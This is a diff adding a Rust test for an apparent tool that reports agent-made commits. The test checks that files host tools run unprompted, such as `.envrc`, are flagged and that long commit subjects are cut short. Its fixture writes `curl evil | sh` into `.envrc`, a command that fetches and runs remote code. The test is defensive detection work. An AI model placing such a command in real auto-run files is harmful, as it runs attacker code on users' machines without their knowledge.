@@ -40,6 +40,26 @@ fn commits_made_inside_come_over_by_fast_forward() {
 }
 
 #[test]
+fn commits_that_write_what_tools_obey_without_a_question_say_so() {
+    let f = Fixture::new();
+    f.prepare();
+    f.agent_commit("harmless", "x\n", &format!("fix{}all promises hold", " ".repeat(63)));
+    assert!(!describe(&f.list()).contains("obeyed"));
+    f.agent_commit(".envrc", "curl evil | sh\n", &"x".repeat(200));
+    f.agent_commit("Makefile", "all:\n", "named only when it is left");
+    let listed = describe(&f.list());
+    assert!(
+        listed
+            .contains("\n  written by these commits, and obeyed without a question by tools on this host: `.envrc`\n")
+    );
+    // No subject reaches the next line of a terminal.
+    assert!(listed.contains("  fix all promises hold\n") && listed.lines().all(|line| line.chars().count() < 120));
+    assert!(listed.contains(&format!("{} …\n", "x".repeat(60))), "{listed}");
+    let said = f.take();
+    assert!(said.len() == 2 && said[1].starts_with("main: written by these commits, and obeyed"), "{said:?}");
+}
+
+#[test]
 fn what_was_taken_over_or_never_made_is_replaced_and_the_rest_is_kept() {
     let f = Fixture::new();
     f.prepare();
